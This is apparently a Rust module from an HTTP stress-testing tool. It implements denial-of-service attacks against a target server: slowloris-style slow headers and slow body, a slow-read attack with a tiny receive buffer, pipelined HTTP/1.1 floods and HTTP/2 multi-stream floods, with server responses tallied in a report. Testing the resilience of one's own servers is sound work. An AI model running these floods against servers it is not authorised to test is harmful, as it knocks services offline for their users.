// SPDX-License-Identifier: Apache-2.0
//! Attacks with requests: slow ones, and very many.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf};

use super::beside;
use super::report::Report;
use crate::client::{Sender, connect, drain, request};
use crate::target::{Shape, Stream, Target};

/// Requests in one write.
const PIPELINED: usize = 16;

/// Requests at the same time on one HTTP/2 connection.
const STREAMS: usize = 50;

/// An answer that no socket buffer holds.
const LARGE: &str = "/bytes/50000000";

pub(super) async fn slow_headers(target: &Target, report: &Report) -> io::Result<()> {
    let head = format!("GET / HTTP/1.1\r\nHost: {}\r\n", target.host());
    drip(target, report, head, b"X-a: b\r\n", Duration::from_millis(500)).await
}

pub(super) async fn slow_body(target: &Target, report: &Report) -> io::Result<()> {
    let head = format!("POST / HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", target.host());
    drip(target, report, head, b"x", Duration::from_secs(1)).await
}

async fn drip(
    target: &Target,
    report: &Report,
    first: String,
    drop: &[u8],
    pause: Duration,
) -> io::Result<()> {
    let (stream, _held) = report.open(target).await?;
    let (read, mut write) = tokio::io::split(stream);
    let work = async {
        write.write_all(first.as_bytes()).await?;
        Report::add(&report.bytes_sent, first.len());
        loop {
            write.flush().await?;
            tokio::time::sleep(pause).await;
            write.write_all(drop).await?;
            Report::add(&report.bytes_sent, drop.len());
        }
    };
    beside::<()>(work, answers(read, report), report).await
}

pub(super) async fn slow_read(target: &Target, report: &Report) -> io::Result<()> {
    let shape = Shape { receive_buffer: 2048, reset_at_end: true };
    let (mut stream, _held) = report.connecting(target.connect(shape)).await?;
    let head = format!("GET {LARGE} HTTP/1.1\r\nHost: {}\r\n\r\n", target.host());
    stream.write_all(head.as_bytes()).await?;
    stream.flush().await?;
    Report::add(&report.bytes_sent, head.len());
    let mut byte = [0];
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if stream.read(&mut byte).await? == 0 {
            Report::count(&report.closed_by_server);
            return Ok(());
        }
    }
}

pub(super) async fn flood(target: &Target, report: &Report) -> io::Result<()> {
    let (stream, _held) = report.open(target).await?;
    let (read, mut write) = tokio::io::split(stream);
    let one = format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", target.path(), target.host());
    let piece = one.repeat(PIPELINED);
    let work = async {
        loop {
            write.write_all(piece.as_bytes()).await?;
            write.flush().await?;
            Report::add(&report.bytes_sent, piece.len());
        }
    };
    beside::<()>(work, answers(read, report), report).await
}

pub(super) async fn flood_http2(target: &Target, report: &Report) -> io::Result<()> {
    let other = |fault: crate::client::Fault| io::Error::other(fault.to_string());
    let connecting = async { connect(target, true).await.map_err(other) };
    let (sender, _held) = report.connecting(connecting).await?;
    let Sender::Http2(handle) = &sender else { return Ok(()) };
    loop {
        let mut sent = Vec::with_capacity(STREAMS);
        for _ in 0..STREAMS {
            let asked = request(target, target.path(), &sender).map_err(other)?;
            sent.push(handle.clone().send_request(asked));
        }
        for answer in sent {
            let response = answer.await.map_err(io::Error::other);
            if handle.is_closed() {
                Report::count(&report.closed_by_server);
            }
            let response = response?;
            Report::count_in(&report.answers, response.status().as_u16());
            drain(response.into_body()).await.map_err(io::Error::other)?;
        }
    }
}

/// Reads until the end, and notes each status line that a piece shows whole.
async fn answers(mut read: ReadHalf<Stream>, report: &Report) {
    let mut piece = vec![0; 65_536];
    while let Ok(count) = read.read(&mut piece).await {
        let Some(seen) = piece.get(..count).filter(|seen| !seen.is_empty()) else { return };
        for line in seen.split(|byte| *byte == b'\n') {
            let status = line.strip_prefix(b"HTTP/1.1 ").and_then(|rest| rest.get(..3));
            let status = status.and_then(|digits| std::str::from_utf8(digits).ok()?.parse().ok());
            if let Some(status) = status {
                Report::count_in(&report.answers, status);
            }
        }
    }
}
